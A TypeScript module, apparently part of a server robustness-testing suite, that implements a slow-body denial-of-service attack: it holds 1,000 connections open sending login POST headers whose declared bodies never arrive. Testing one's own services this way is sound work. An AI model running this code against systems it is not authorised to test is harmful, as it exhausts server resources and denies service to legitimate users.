import { setTimeout as sleep } from 'node:timers/promises';
import { requestHead, TcpPeers } from '../../network/tcp-peers';
import type { Attack } from '../attack';

const connections = 1_000;
const head = requestHead('POST /api/v1/auth/login', 'Content-Type: application/json', 'Content-Length: 60000');

/** Requests whose bodies never come. */
export const absentBodies: Attack = {
  name: 'bodies that never come, on 1,000 connections',
  async run({ baseUrl }, signal) {
    const peers = new TcpPeers(baseUrl);
    try {
      while (!signal.aborted) {
        while (peers.count < connections) {
          const socket = peers.open(head).resume();
          socket.once('end', () => socket.destroy());
        }
        await sleep(100, undefined, { signal }).catch(() => undefined);
      }
    } finally {
      peers.close();
    }
  },
};
